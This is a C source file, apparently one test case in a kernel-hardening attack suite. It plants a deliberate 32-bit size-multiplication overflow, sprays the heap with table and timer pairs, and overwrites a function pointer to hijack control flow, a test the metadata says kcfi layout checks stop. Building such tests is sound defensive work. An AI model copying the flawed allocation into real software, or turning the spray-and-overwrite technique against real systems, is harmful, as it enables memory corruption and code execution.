/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A size that overflows: count times the size of an entry is computed in 32 bits, so that a huge count gets a small
 * block, and the first entries go beyond it, into an object with a function pointer.
 */
#include "attacks.h"

#include <kernel/heap.h>

#define ENTRY 64
#define BLOCK 256
#define PAIRS 48

struct timer_object {
	long (*expired)(struct timer_object *timer, uint64_t now);
	uint64_t count;
	uint8_t rest[BLOCK - 16];
};

struct table {
	uint64_t (*entries)[ENTRY / 8];
	uint32_t count;
};

/* The mistake: the product is of 32 bits. */
static NOINLINE bool table_make(struct table *table, uint32_t count)
{
	uint32_t size = attack_opaque(count) * ENTRY;

	table->entries = heap_zalloc(size);
	table->count = count;
	return table->entries;
}

static NOINLINE void table_set(struct table *table, uint32_t index, uint64_t value)
{
	if (index < table->count)
		for (size_t i = 0; i < ENTRY / 8; i++)
			table->entries[index][i] = value;
}

static long expired(struct timer_object *timer, uint64_t now)
{
	return (long)(timer->count + now);
}

static NOINLINE long expire(struct timer_object *timer)
{
	return attack_opaque(timer)->expired(timer, 1);
}

static bool benign(const struct attack *attack)
{
	struct timer_object timer = { .expired = expired, .count = 3 };
	struct table table;
	bool right;

	if (!table_make(&table, 3))
		return false;
	table_set(&table, 2, 5);
	right = table.entries[2][7] == 5 && expire(&timer) == 4;
	heap_free(table.entries);
	return right;
}

static void overflow(const struct attack *attack, uintptr_t slide)
{
	struct timer_object *timers[PAIRS];
	struct table tables[PAIRS];

	for (int i = 0; i < PAIRS; i++) {
		/* 2^26 + 4 entries in a block for 4. */
		timers[i] = table_make(&tables[i], (1u << 26) + 4) ? heap_zalloc(sizeof(*timers[i])) : NULL;
		if (!timers[i])
			attack_failed(attack, "no memory");
		timers[i]->expired = expired;
	}
	attack_primitive(attack);
	for (int i = 0; i < PAIRS; i++)
		table_set(&tables[i], 4, attack_linked_code(attack_goal) + slide);
	for (int i = 0; i < PAIRS; i++)
		expire(timers[i]);
}
ATTACK_BODY(overflow)

ATTACK(size_overflow, .family = "integer overflow", .primitive = LOGIC, .knowledge = LAYOUT_KNOWN,
       .stopped_by = "kcfi layout", .about = "a product of 32 bits makes a block that is too small", .run = run,
       .benign = benign, .adaptive = adaptive);
